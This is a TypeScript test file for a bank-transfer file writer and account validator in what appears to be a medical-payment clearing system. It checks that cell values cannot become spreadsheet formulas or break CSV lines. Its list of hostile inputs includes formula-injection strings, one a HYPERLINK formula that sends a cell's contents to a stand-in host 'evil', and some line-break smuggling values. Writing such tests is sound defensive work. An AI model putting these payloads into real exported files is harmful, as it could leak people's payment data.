import { fenOf } from '@yibao/schema/money'
import { InvalidInput } from '@yibao/schema/rejection'
import { expect, test } from 'vitest'
import { writeBankFile } from './bank-file.ts'
import { readBankAccount } from './clearing-bank-account.ts'

const ROW = {
  number: 1,
  payee: 'H62990000001',
  holder: '示范医院',
  account: '6222020200012345678',
  bankName: '示范银行',
  bankCode: '105821000018',
  amount: fenOf(100n),
}
const HOSTILE = [
  '=HYPERLINK("http://evil/?"&E2,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1',
  ' =1',
  '\t=1',
  '\r=1',
  'a\r\nD,2',
  'a\u2028=1',
]

test.each(HOSTILE)('no cell of the bank’s file acts as a formula or breaks its line: %j', (text) => {
  const batch = { number: '62990020261222001', pool: '629900', day: Temporal.PlainDate.from('2026-12-22') }
  const file = writeBankFile(batch, [{ ...ROW, holder: text, bankName: text }])
  const lines = file.split('\r\n')
  expect(lines).toHaveLength(4)
  expect(file.replaceAll('\r\n', '')).not.toMatch(/[\p{Cc}\u2028\u2029]/u)
  for (const line of lines) expect(line).not.toMatch(/(^|,)"?\s*[=+\-@＝＋－＠]/u)
})

test.each(HOSTILE)('a holder or a bank of this name is refused, naming the field: %j', (text) => {
  for (const field of ['holder', 'bankName'] as const) {
    const refused = () =>
      readBankAccount({ holder: '甲', number: '62220202', bankName: '乙', bankCode: '105821000018', [field]: text })
    expect(refused).toThrow(InvalidInput)
    expect(refused).toThrow(
      expect.objectContaining({ problems: [expect.objectContaining({ path: `input.${field}` })] }),
    )
  }
})
